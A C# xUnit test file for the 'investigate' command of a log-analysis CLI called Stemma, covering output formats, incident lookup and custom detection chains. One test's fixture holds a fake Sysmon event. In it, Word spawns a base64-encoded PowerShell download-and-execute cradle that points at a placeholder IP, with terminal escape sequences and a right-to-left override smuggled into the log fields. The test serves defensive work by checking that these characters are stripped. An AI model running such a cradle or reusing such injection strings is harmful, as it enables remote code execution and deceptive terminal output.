using System.Text.Json;
using Stemma.Cli.Tests.Support;
using Stemma.Tests.Shared;

namespace Stemma.Cli.Tests;

/// <summary>stemma investigate, as its users meet it.</summary>
public sealed class InvestigateCommandTests : IDisposable
{
    private readonly string _folder = TestData.TemporaryFolder();

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void The_samples_are_told_in_a_few_lines_each()
    {
        var (code, output, errors) = StemmaProgram.Run("investigate", "samples");
        Golden.Check("investigate-samples.txt", output);
        Assert.Equal(0, code);
        Assert.Contains("3 incidents from ", errors, StringComparison.Ordinal);
    }

    [Fact]
    public void The_same_samples_give_the_same_bytes_for_machines()
    {
        string output = StemmaProgram.Run("investigate", "samples", "--format", "json").Output;
        using JsonDocument json = JsonDocument.Parse(output);
        Assert.Equal(3, json.RootElement.GetProperty("incidents").GetArrayLength());
        Assert.Equal(output, StemmaProgram.Run("investigate", "samples", "--format", "json").Output);
    }

    [Fact]
    public void An_incident_is_told_in_full_by_the_beginning_of_its_id()
    {
        string id = Ids()[0];
        Assert.Equal(0, StemmaProgram.Run("investigate", "samples", "--incident", id).Code);
        Golden.Check("investigate-incident.txt", StemmaProgram.Run("investigate", "samples", "--incident", id[..6]).Output);
    }

    [Fact]
    public void An_id_that_is_none_names_those_there_are()
    {
        var (code, _, errors) = StemmaProgram.Run("investigate", "samples", "--incident", "I-nothing");
        Assert.Equal(2, code);
        Assert.Contains(Ids()[0], errors, StringComparison.Ordinal);
    }

    [Fact]
    public void Chains_of_ones_own_replace_the_built_in_ones()
    {
        string path = Path.Combine(_folder, "own.yml");
        File.WriteAllText(path, "id: own\ntitle: Our own chain\nwithin: 1d\nsteps: [{name: a, techniques: [T1059]}, {name: b, techniques: [T1055], relation: incident}]");
        Assert.Contains("Our own chain on WKS-014", StemmaProgram.Run("investigate", "samples", "--chains", path).Output, StringComparison.Ordinal);
        File.WriteAllText(path, "id: own");
        var (code, _, errors) = StemmaProgram.Run("investigate", "samples", "--chains", path);
        Assert.Equal(2, code);
        Assert.Contains("'title' is missing", errors, StringComparison.Ordinal);
    }

    [Fact]
    public void Log_text_cannot_drive_the_terminal()
    {
        File.WriteAllText(Path.Combine(_folder, "log.json"),
            """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Hostname":"A\u001b[2J","TimeCreated":"2026-03-02T12:00:00Z","ProcessId":"10","Image":"C:\\Windows\\Temp\\\u001b]0;x\u0007\u202e.exe","CommandLine":"powershell.exe -NoP -W Hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA= \u001b[31m","ParentProcessId":"2","ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","OriginalFileName":"PowerShell.EXE"}""");
        string list = StemmaProgram.Run("investigate", _folder).Output, id = list.Split('\n').First(line => line.StartsWith("I-", StringComparison.Ordinal))[..12];
        string whole = StemmaProgram.Run("investigate", _folder, "--incident", id).Output;
        Assert.Contains("Timeline", whole, StringComparison.Ordinal);
        Assert.DoesNotContain(list + whole, c => c is '\u001b' or '\u202e' or '\u0007');
    }

    private static string[] Ids()
    {
        using JsonDocument json = JsonDocument.Parse(StemmaProgram.Run("investigate", "samples", "--format", "json").Output);
        return [.. json.RootElement.GetProperty("incidents").EnumerateArray().Select(incident => incident.GetProperty("id").GetString()!)];
    }
}
